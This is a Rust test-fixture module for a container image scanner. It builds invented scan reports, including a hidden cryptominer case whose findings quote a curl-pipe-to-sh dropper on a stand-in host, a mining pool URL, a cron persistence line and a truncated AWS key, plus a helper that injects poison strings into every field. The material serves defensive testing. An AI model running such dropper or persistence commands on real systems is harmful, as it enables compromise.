//! Hand-made reports for tests of the outputs. Every value is invented.

use std::collections::BTreeSet;

use model::{
    Category, Completeness, Concealment, Confidence, Digest, Disposition, Finding, ImageIdentity, Indicator,
    IndicatorKind, Inside, LayerSummary, Location, Maturity, Observation, Origin, Platform, Problem, ProblemKind,
    Reason, SCHEMA, ScanReport, Severity, Verdict, Weight,
};

use super::{Row, RowError};

mod run;
pub use run::ran;

/// 2026-11-23T04:18:37Z.
const SCANNED_AT: u64 = 1_795_407_517;

fn layer(name: &str, bytes: u64, history: &str) -> LayerSummary {
    LayerSummary {
        digest: Digest::of(name.as_bytes()),
        diff_id: Some(Digest::of(format!("{name} tar").as_bytes())),
        packed_bytes: bytes / 3,
        unpacked_bytes: bytes,
        entries: bytes / 20_000 + 1,
        history: Some(history.to_owned()),
        findings: 0,
        remembered: name == "base",
    }
}

/// A base, a tool and an application, without any finding.
#[must_use]
pub fn clean() -> ScanReport {
    ScanReport {
        schema: SCHEMA.to_owned(),
        image: ImageIdentity {
            reference: "registry.example.org/shop/web:1.4".to_owned(),
            index: None,
            manifest: Some(Digest::of(b"clean manifest")),
            config: Digest::of(b"clean config"),
            config_pins_layers: true,
            platform: Platform { os: "linux".to_owned(), architecture: "amd64".to_owned(), variant: None },
            created: Some("2026-10-01T08:00:00Z".to_owned()),
            command: vec!["/usr/sbin/nginx".to_owned(), "-g".to_owned(), "daemon off;".to_owned()],
            description: "Shop front".to_owned(),
            layers: vec![
                layer("base", 78_000_000, "/bin/sh -c #(nop) ADD file:b6a1 in /"),
                layer("nginx", 21_400_000, "RUN apt-get update && apt-get install -y --no-install-recommends nginx"),
                layer("site", 310_000, "COPY site /var/www/html # buildkit"),
            ],
        },
        verdict: Verdict {
            disposition: Disposition::Clean,
            categories: BTreeSet::new(),
            severity: Severity::Info,
            confidence: Confidence::High,
            concealment: None,
            reasons: vec![],
            completeness: Completeness::Complete,
        },
        findings: vec![],
        problems: vec![],
        rule_pack: "0123456789abcdef".to_owned(),
        scanned_at: SCANNED_AT,
        remembered: false,
        runs: Vec::new(),
    }
}

fn observation(detector: &str, title: &str, category: Category, weight: Weight, severity: Severity) -> Observation {
    Observation {
        detector: detector.to_owned(),
        title: title.to_owned(),
        category,
        weight,
        severity,
        confidence: Confidence::High,
        maturity: Maturity::Stable,
        techniques: vec![],
        summary: String::new(),
        offset: None,
        indicators: vec![],
        inside: None,
    }
}

fn at(layer: &str, path: &str, hidden: bool) -> Location {
    let sha256 = Some(Digest::of(path.as_bytes()));
    Location::File { layer: Digest::of(layer.as_bytes()), path: path.to_owned(), sha256, hidden }
}

/// Where it comes from; its own path ends the way.
fn trace(finding: &mut Finding, step: &str, hidden_by: Option<&str>, way: &[&str]) {
    let Location::File { path, .. } = &finding.location else { return };
    let mut run_by: Vec<String> = way.iter().map(|&step| step.to_owned()).collect();
    if !run_by.is_empty() {
        run_by.push(format!("/{path}"));
    }
    let hidden_by = hidden_by.map(|layer| Digest::of(layer.as_bytes()));
    finding.origin = Some(Origin { created_by: Some(step.to_owned()), hidden_by, run_by });
}

fn indicator(kind: IndicatorKind, value: &str) -> Indicator {
    Indicator { kind, value: value.to_owned() }
}

/// A hidden miner in an image that calls itself something else: proofs, signs and facts, in files, an archive, the
/// config and the history; partly unseen.
#[must_use]
pub fn miner() -> ScanReport {
    use IndicatorKind::{Domain, Pool, SecretFingerprint, Url, Wallet};
    let wallet = "XMR:4AbInventedWalletThatBelongsToNobodyAtAll000000000000000000000000000000000000000000000000000000";
    let mut config = observation(
        "miner-config",
        "Mining configuration with a wallet whose checksum holds",
        Category::Cryptominer,
        Weight::Proof,
        Severity::Critical,
    );
    config.confidence = Confidence::Certain;
    config.techniques = vec!["T1496".to_owned()];
    config.summary = "\"url\": \"stratum+tcp://pool.example.net:3333\", \"user\": \"4AbInvented…\"".to_owned();
    config.offset = Some(118);
    config.indicators = vec![indicator(Pool, "pool.example.net:3333"), indicator(Wallet, wallet)];
    let mut binary = observation(
        "miner-binary",
        "Program that speaks Stratum",
        Category::Cryptominer,
        Weight::Proof,
        Severity::Critical,
    );
    binary.techniques = vec!["T1496".to_owned()];
    binary.summary = "ELF with mining.subscribe, mining.submit, randomx and 11 more".to_owned();
    binary.offset = Some(2_310_144);
    binary.inside = Some(Inside { path: "torch/lib/data.tar!kworker".to_owned(), sha256: Digest::of(b"kworker") });
    let mut cron = observation(
        "persistence-cron",
        "Starts a program again and again",
        Category::Backdoor,
        Weight::Sign,
        Severity::High,
    );
    cron.techniques = vec!["T1053.003".to_owned()];
    cron.summary = "*/5 * * * * root /usr/lib/.cache/kworker -c /usr/lib/.cache/c.json".to_owned();
    let mut secret = observation(
        "secret-aws",
        "AWS access key in the image",
        Category::EmbeddedSecret,
        Weight::Proof,
        Severity::Medium,
    );
    secret.summary = "AKIA…7Q2X".to_owned();
    secret.indicators = vec![indicator(SecretFingerprint, "aws-access-key:5f1d0c9a")];
    let mut dropper = observation(
        "download-and-run",
        "Downloads and runs in one line",
        Category::Backdoor,
        Weight::Sign,
        Severity::High,
    );
    dropper.maturity = Maturity::Draft;
    dropper.confidence = Confidence::Medium;
    dropper.summary = "curl -s http://files.example.net/s.sh | sh".to_owned();
    dropper.indicators = vec![indicator(Url, "http://files.example.net/s.sh")];

    let mut report = clean();
    let image = &mut report.image;
    image.reference = "docker.io/torchlab/pytorch-notebook:2.4-cuda".to_owned();
    image.index = Some(Digest::of(b"miner index"));
    image.manifest = Some(Digest::of(b"miner manifest"));
    image.command = vec!["/bin/sh".to_owned(), "-c".to_owned(), "/opt/start.sh".to_owned()];
    image.description = "PyTorch with Jupyter".to_owned();
    image.layers = vec![
        layer("base", 78_000_000, "/bin/sh -c #(nop) ADD file:b6a1 in /"),
        layer("python", 1_940_000_000, "RUN pip install torch==2.4.0 jupyter # buildkit"),
        layer(
            "cache",
            9_400_000,
            "RUN /bin/sh -c mkdir -p /usr/lib/.cache && cp -r /tmp/x/* /usr/lib/.cache/ # buildkit",
        ),
        layer("clean-up", 2_048, "RUN /bin/sh -c rm -rf /tmp/x /root/.aws # buildkit"),
        layer("start", 4_096, "COPY start.sh /opt/start.sh # buildkit"),
    ];
    let findings = &mut report.findings;
    findings.push(Finding::new(config, at("cache", "usr/lib/.cache/c.json", false), true));
    findings.push(Finding::new(binary, at("python", "opt/wheels/torch-2.4.0-cp312-linux_x86_64.whl", false), false));
    findings.push(Finding::new(cron, at("start", "etc/cron.d/anacron", false), true));
    findings.push(Finding::new(secret.clone(), at("python", "root/.aws/credentials", true), false));
    secret.title = "AWS access key in the environment".to_owned();
    findings.push(Finding::new(secret, Location::Config { field: "config.Env[3]".to_owned() }, false));
    findings.push(Finding::new(dropper, Location::History { line: 2 }, false));
    for number in 0..14 {
        let mut fact = observation("url", "URL", Category::Other, Weight::Fact, Severity::Info);
        fact.summary = format!("https://docs{number}.example.org/");
        fact.indicators = vec![indicator(Domain, &format!("docs{number}.example.org"))];
        findings.push(Finding::new(fact, at("python", &format!("usr/share/doc/a{number}/README"), false), false));
    }
    trace(&mut findings[0], "RUN /bin/sh -c cp -r /tmp/x/* /usr/lib/.cache/", None, &["CMD", "/opt/start.sh"]);
    trace(&mut findings[3], "RUN pip install torch==2.4.0 jupyter # buildkit", Some("clean-up"), &[]);
    report.image.layers.iter_mut().for_each(|layer| {
        let inside =
            |finding: &&Finding| matches!(&finding.location, Location::File { layer: at, .. } if *at == layer.digest);
        layer.findings = report.findings.iter().filter(inside).count() as u64;
    });
    let ids =
        |wanted: &[usize]| wanted.iter().filter_map(|&at| report.findings.get(at)).map(|it| it.id.clone()).collect();
    let reason = |text: &str, findings| Reason { text: text.to_owned(), findings };
    report.verdict = Verdict {
        disposition: Disposition::Malicious,
        categories: [Category::Cryptominer, Category::Backdoor, Category::EmbeddedSecret].into(),
        severity: Severity::Critical,
        confidence: Confidence::Certain,
        concealment: Some(Concealment::Concealed),
        reasons: vec![
            reason("a miner that the image does not admit, and runs", ids(&[0, 1])),
            reason("persistence and a dropper: two signs of a backdoor", ids(&[2, 5])),
            reason("leaks a cloud key", ids(&[3, 4])),
        ],
        completeness: Completeness::Partial {
            not_looked_at: vec!["opt/models/weights.7z: encrypted, 1.2 MB unseen".to_owned()],
        },
    };
    report.problems = vec![
        Problem {
            kind: ProblemKind::Encrypted,
            place: "opt/models/weights.7z".to_owned(),
            detail: "the archive asks for a password".to_owned(),
            unseen_bytes: 1_200_000,
        },
        Problem {
            kind: ProblemKind::Ambiguous,
            place: "usr/lib/python3/x.tar".to_owned(),
            detail: "size in the pax header and in the ustar header differ".to_owned(),
            unseen_bytes: 0,
        },
    ];
    report
}

/// The image that leaked a key, and no more.
#[must_use]
pub fn risky() -> ScanReport {
    let mut report = miner();
    report.image.reference = "docker.io/shop/worker:7".to_owned();
    report.image.manifest = Some(Digest::of(b"risky manifest"));
    report.findings.retain(|finding| finding.observation.category == Category::EmbeddedSecret);
    report.verdict.disposition = Disposition::Risky;
    report.verdict.categories = [Category::EmbeddedSecret].into();
    report.verdict.severity = Severity::Medium;
    report.verdict.confidence = Confidence::High;
    report.verdict.concealment = None;
    report.verdict.completeness = Completeness::Complete;
    report.verdict.reasons.drain(..2);
    report.problems.clear();
    report
}

/// One of each: malicious, risky, clean, one that was run, and one that could not be read.
#[must_use]
pub fn rows() -> Vec<Row> {
    let row = |report: ScanReport| Row { reference: report.image.reference.clone(), result: Ok(report) };
    let message = "docker.io/shop/gone:1 does not exist: check the name and the tag".to_owned();
    let failed =
        Row { reference: "docker.io/shop/gone:1".to_owned(), result: Err(RowError { kind: "not-found", message }) };
    vec![row(miner()), row(risky()), row(clean()), row(ran()), failed]
}

/// The same rows with `poison` appended to every text that can come from outside.
#[must_use]
pub fn poisoned(poison: &str) -> Vec<Row> {
    let mut rows = rows();
    let add = |text: &mut String| text.push_str(poison);
    for row in &mut rows {
        add(&mut row.reference);
        let report = match &mut row.result {
            Ok(report) => report,
            Err(error) => {
                add(&mut error.message);
                continue;
            }
        };
        let image = &mut report.image;
        add(&mut image.reference);
        add(&mut image.platform.os);
        add(&mut image.platform.architecture);
        image.platform.variant = Some(poison.to_owned());
        image.created.iter_mut().for_each(add);
        image.command.iter_mut().for_each(add);
        add(&mut image.description);
        image.layers.iter_mut().filter_map(|layer| layer.history.as_mut()).for_each(add);
        for finding in &mut report.findings {
            add(&mut finding.id);
            let seen = &mut finding.observation;
            for text in [&mut seen.detector, &mut seen.title, &mut seen.summary] {
                add(text);
            }
            seen.techniques.iter_mut().for_each(add);
            seen.indicators.iter_mut().for_each(|indicator| add(&mut indicator.value));
            seen.inside.iter_mut().for_each(|inside| add(&mut inside.path));
            match &mut finding.location {
                Location::File { path, .. } => add(path),
                Location::Config { field } => add(field),
                Location::Captured { run, path, .. } => {
                    add(run);
                    add(path);
                }
                Location::Event { run, .. } => add(run),
                Location::History { .. } | Location::Layer { .. } | Location::Image => {}
            }
        }
        for reason in &mut report.verdict.reasons {
            add(&mut reason.text);
            reason.findings.iter_mut().for_each(add);
        }
        if let Completeness::Partial { not_looked_at } = &mut report.verdict.completeness {
            not_looked_at.iter_mut().for_each(add);
        }
        for problem in &mut report.problems {
            add(&mut problem.place);
            add(&mut problem.detail);
        }
        report.runs = report.runs.iter().map(|trace| run::poisoned(trace, poison)).collect();
        add(&mut report.rule_pack);
        add(&mut report.schema);
    }
    rows
}
